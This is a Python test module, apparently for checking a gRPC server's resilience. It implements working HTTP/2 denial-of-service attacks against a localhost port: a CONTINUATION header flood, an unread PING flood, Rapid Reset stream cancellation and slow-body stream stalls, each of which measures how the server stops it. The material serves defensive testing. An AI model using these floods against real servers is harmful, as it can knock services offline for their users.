"""The attacks of issue 29 on a gRPC port, as clients on 127.0.0.1: each bounded, each reporting what the server
took before it stopped taking (bytes, streams, PINGs) and how it stopped (GOAWAY and its code, no longer read,
still open).

The HTTP/2 of the well-behaved parts is the ``h2`` package's (python-hyper): it keeps the windows and settings the
server gives, so a stalled stream sends only what the server allowed. What it refuses to do (a header block that
never ends, PINGs never read) is written as raw frames.
"""

from __future__ import annotations

import select
import socket
import struct
import threading
import time
from dataclasses import dataclass, field
from pathlib import Path

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, CONTINUATION = 1, 3, 4, 6, 7, 9
END_STREAM, END_HEADERS = 0x1, 0x4
CANCEL, REFUSED_STREAM = 8, 7
ERROR_NAMES = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 3: "FLOW_CONTROL_ERROR", 6: "FRAME_SIZE_ERROR",
               7: "REFUSED_STREAM", 9: "COMPRESSION_ERROR", 11: "ENHANCE_YOUR_CALM"}  # fmt: skip
INFER_PATH = "/inference.GRPCInferenceService/ModelInfer"


def frame(ftype: int, flags: int, sid: int, payload: bytes = b"") -> bytes:
    return struct.pack(">IBI", len(payload) << 8 | ftype, flags, sid) + payload


def request_headers(port: int) -> list[tuple[bytes, bytes]]:
    return [
        (b":method", b"POST"),
        (b":scheme", b"http"),
        (b":path", INFER_PATH.encode()),
        (b":authority", f"127.0.0.1:{port}".encode()),
        (b"content-type", b"application/grpc"),
        (b"te", b"trailers"),
    ]


def rss_bytes(pid: int) -> int:
    """The process's resident set (VmRSS), 0 once it is gone."""
    try:
        for line in Path(f"/proc/{pid}/status").read_text().splitlines():
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) * 1024
    except OSError:
        pass
    return 0


class RssPeak:
    """The largest RSS of ``pid`` while in the ``with`` block, sampled every 20 ms, above what it was before."""

    def __init__(self, pid: int) -> None:
        self.pid = pid
        self.base = self.peak = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._sample, daemon=True)

    def _sample(self) -> None:
        while not self._stop.wait(0.02):
            self.peak = max(self.peak, rss_bytes(self.pid))

    def __enter__(self) -> RssPeak:
        self.base = self.peak = rss_bytes(self.pid)
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._stop.set()
        self._thread.join()
        self.peak = max(self.peak, rss_bytes(self.pid))

    @property
    def growth_mb(self) -> float:
        return (self.peak - self.base) / 1e6


@dataclass
class Outcome:
    """What one attack got from a server."""

    accepted: int = 0
    """Bytes (or PINGs, for the PING flood) the server took before it stopped taking them."""
    streams: int = 0
    """Streams opened and not refused."""
    refused: int = 0
    ended: str = "still open"
    """How the server stopped it: ``GOAWAY <code>``, ``reset``, ``not read (TCP backpressure)``, ``still open``."""
    notes: list[str] = field(default_factory=list)


def _goaway_code(data: bytes) -> int | None:
    """The error code of the first GOAWAY among whole frames at the start of ``data``."""
    pos = 0
    while pos + 9 <= len(data):
        length = int.from_bytes(data[pos : pos + 3], "big")
        if data[pos + 3] == GOAWAY and pos + 9 + length <= len(data):
            return int.from_bytes(data[pos + 13 : pos + 17], "big")
        pos += 9 + length
    return None


def _count_acks(data: bytes) -> int:
    """PING ACKs among the whole frames at the start of ``data``."""
    pos = count = 0
    while pos + 9 <= len(data):
        length = int.from_bytes(data[pos : pos + 3], "big")
        count += data[pos + 3] == PING and data[pos + 4] & 1
        pos += 9 + length
    return count


def _connect(port: int, rcvbuf: int | None = None) -> socket.socket:
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    if rcvbuf is not None:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
    sock.connect(("127.0.0.1", port))
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return sock


class _Reader:
    """Everything the server sends on a raw socket, kept (read without blocking, when asked)."""

    def __init__(self, sock: socket.socket) -> None:
        self.sock = sock
        self.data = bytearray()
        self.eof = False

    def poll(self, timeout: float = 0.0) -> None:
        while not self.eof and select.select([self.sock], [], [], timeout)[0]:
            try:
                chunk = self.sock.recv(1 << 20)
            except OSError:
                chunk = b""
            if not chunk:
                self.eof = True
            self.data += chunk
            timeout = 0.0

    def ended(self) -> str | None:
        code = _goaway_code(bytes(self.data))
        if code is not None:
            return f"GOAWAY {ERROR_NAMES.get(code, code)}"
        return "reset" if self.eof else None


def continuation_flood(port: int, limit: int = 64 << 20, chunk: int = 16384) -> Outcome:
    """A HEADERS frame without END_HEADERS, then CONTINUATION frames of ``chunk`` bytes (literal header fields)
    until the server closes the connection or ``limit`` bytes went."""
    out = Outcome()
    sock = _connect(port)
    reader = _Reader(sock)
    filler = hpack.Encoder().encode([(b"x-filler", b"a" * 200)]) * (chunk // 210)
    block = hpack.Encoder().encode(request_headers(port))
    sock.sendall(PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, 0, 1, block))
    batch = frame(CONTINUATION, 0, 1, filler) * 4
    sock.settimeout(10.0)
    try:
        while out.accepted < limit:
            reader.poll(0.001)
            if (ended := reader.ended()) is not None:
                out.ended = ended
                break
            try:
                sock.sendall(batch)
            except TimeoutError:
                out.ended = "not read (TCP backpressure)"
                break
            out.accepted += len(batch)
        else:
            out.notes.append(f"sent all {limit} bytes")
        reader.poll(0.5)
        out.ended = reader.ended() or out.ended
    except OSError:
        reader.poll(0.2)
        out.ended = reader.ended() or "reset"
    finally:
        sock.close()
    return out


class PingFlood:
    """PING frames from a client that never reads, until the server stops reading it (the client's send blocks
    for ``stall_s``), closes it, or ``limit`` PINGs went. Open until ``close``. ``with_calls``: every 50 PINGs
    also a call (HEADERS with END_STREAM, to a method that does not exist), so a server that closes connections
    that only PING has to answer them all."""

    def __init__(
        self,
        port: int,
        limit: int = 2_000_000,
        stall_s: float = 2.0,
        *,
        with_calls: bool = False,
        rcvbuf: int | None = None,
    ) -> None:
        self.port, self.limit, self.stall_s = port, limit, stall_s
        self.sock = _connect(port, rcvbuf)
        self.out = Outcome()
        self.with_calls = with_calls
        self._encoder = hpack.Encoder()
        self._sid = 1
        self._headers = [(k, v) if k != b":path" else (k, b"/none/Nothing") for k, v in request_headers(port)]

    def _batch(self, pings: bytes) -> memoryview:
        if not self.with_calls:
            return memoryview(pings)
        call = frame(HEADERS, END_HEADERS | END_STREAM, self._sid, self._encoder.encode(self._headers))
        self._sid += 2
        return memoryview(pings + call)

    def run(self) -> Outcome:
        sock, out = self.sock, self.out
        one = frame(PING, 0, 0, b"12345678")
        sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
        pings = one * (50 if self.with_calls else 256)
        sock.setblocking(False)
        sent = 0
        try:
            while sent < self.limit * len(one):
                batch = self._batch(pings)
                view = batch
                while view:
                    try:
                        n = sock.send(view)
                    except BlockingIOError:
                        if not select.select([], [sock], [], self.stall_s)[1]:
                            out.ended = "not read (TCP backpressure)"
                            out.accepted = sent // len(one)
                            return out
                        continue
                    except OSError:
                        out.ended = self._why_closed()
                        out.accepted = sent // len(one)
                        return out
                    sent += n if not self.with_calls else n * len(pings) // len(batch)
                    view = view[n:]
            out.notes.append(f"sent all {self.limit} PINGs")
        except OSError:
            out.ended = self._why_closed()
        out.accepted = sent // len(one)
        return out

    def _why_closed(self) -> str:
        """The connection failed: the GOAWAY among what the server sent before it closed, if any (read now)."""
        reader = _Reader(self.sock)
        reader.poll(0.5)
        self.out.notes.append(f"{_count_acks(bytes(reader.data)):,} answered")
        return reader.ended() or "reset"

    def answered(self) -> None:
        """Read what the server sent, to the end or until it pauses: its PING ACKs go in the notes."""
        if not any(n.endswith("answered") for n in self.out.notes):
            reader = _Reader(self.sock)
            reader.poll(1.0)  # what is there now, not what the server answers once read again
            self.out.notes.append(f"{_count_acks(bytes(reader.data)):,} answered")

    def close(self) -> None:
        self.sock.close()


class H2Client:
    """A connection whose HTTP/2 is the ``h2`` package's: it keeps the server's settings and windows."""

    def __init__(self, port: int) -> None:
        self.port = port
        self.sock = _connect(port)
        self.sock.settimeout(10.0)
        self.conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding=None))
        self.conn.initiate_connection()
        self.refused: set[int] = set()
        self.ended: str | None = None
        self._settings = False
        self.flush()
        deadline = time.monotonic() + 10
        while self.pump(0.05) and not self._settings and time.monotonic() < deadline:
            pass  # until the server's SETTINGS (its limits and windows) are in

    def flush(self) -> None:
        data = self.conn.data_to_send()
        if data:
            self.sock.sendall(data)

    def pump(self, timeout: float = 0.0) -> bool:
        """Read what the server sent (without blocking past ``timeout``); False once the connection is over."""
        while self.ended is None and select.select([self.sock], [], [], timeout)[0]:
            timeout = 0.0
            try:
                data = self.sock.recv(1 << 20)
            except OSError:
                data = b""
            if not data:
                self.ended = self.ended or "reset"
                break
            try:
                events = self.conn.receive_data(data)
            except h2.exceptions.ProtocolError as exc:
                self.ended = f"protocol error: {exc}"
                break
            for event in events:
                if isinstance(event, h2.events.RemoteSettingsChanged):
                    self._settings = True
                elif isinstance(event, h2.events.StreamReset) and event.error_code == REFUSED_STREAM:
                    self.refused.add(event.stream_id)
                elif isinstance(event, h2.events.ResponseReceived):
                    status = dict(event.headers).get(b"grpc-status")
                    if status not in (None, b"0"):  # trailers only: the call refused before it began
                        self.refused.add(event.stream_id)
                elif isinstance(event, h2.events.ConnectionTerminated):
                    code = int(event.error_code or 0)
                    self.ended = f"GOAWAY {ERROR_NAMES.get(code, code)}"
            try:
                self.flush()
            except OSError:
                self.ended = self.ended or "reset"
        return self.ended is None

    def close(self) -> None:
        self.sock.close()


def rapid_reset(port: int, streams: int = 20_000, batch: int = 200) -> Outcome:
    """Streams opened (HEADERS) and reset (RST_STREAM CANCEL) at once, ``batch`` pairs per write."""
    out = Outcome()
    client = H2Client(port)
    headers = request_headers(port)
    try:
        while out.accepted < streams and client.pump():
            for _ in range(min(batch, streams - out.accepted)):
                sid = client.conn.get_next_available_stream_id()
                client.conn.send_headers(sid, headers)
                client.conn.reset_stream(sid, CANCEL)
            out.accepted += batch
            client.flush()
        client.pump(0.5)
    except OSError:
        client.ended = client.ended or "reset"
    finally:
        client.close()
    out.streams = out.accepted
    out.ended = client.ended or "still open"
    return out


class Stall:
    """One connection: ``streams`` calls, each sending ``send`` bytes of a message declared ``declared`` bytes long
    (as much of it as the server's windows allow), then nothing more. Open until ``close``."""

    def __init__(self, port: int, streams: int, send: int = 512 << 10, declared: int = 4 << 20) -> None:
        self.client = H2Client(port)
        self.streams, self.send, self.declared = streams, send, declared
        self.out = Outcome()
        self.opened = 0

    def run(self) -> Outcome:
        client, conn, out = self.client, self.client.conn, self.out
        headers = request_headers(client.port)
        body = b"\x00" + struct.pack(">I", self.declared) + bytes(self.send - 5)
        try:
            for _ in range(self.streams):
                if not client.pump():
                    break
                if conn.open_outbound_streams >= conn.remote_settings.max_concurrent_streams:
                    out.notes.append(f"the server's SETTINGS_MAX_CONCURRENT_STREAMS: {self.opened} open")
                    break
                sid = conn.get_next_available_stream_id()
                conn.send_headers(sid, headers)
                self.opened += 1
                pos = 0
                while pos < len(body):
                    n = min(len(body) - pos, conn.local_flow_control_window(sid), conn.max_outbound_frame_size)
                    if n <= 0:
                        break
                    conn.send_data(sid, body[pos : pos + n])
                    pos += n
                out.accepted += pos
                client.flush()
            client.pump(0.5)
        except TimeoutError:
            client.ended = client.ended or "not read (TCP backpressure)"
        except (OSError, h2.exceptions.ProtocolError) as exc:
            client.ended = client.ended or f"reset ({type(exc).__name__})"
        out.refused = len(client.refused)
        out.streams = self.opened - out.refused
        out.ended = client.ended or "still open"
        return out

    def close(self) -> None:
        self.client.close()
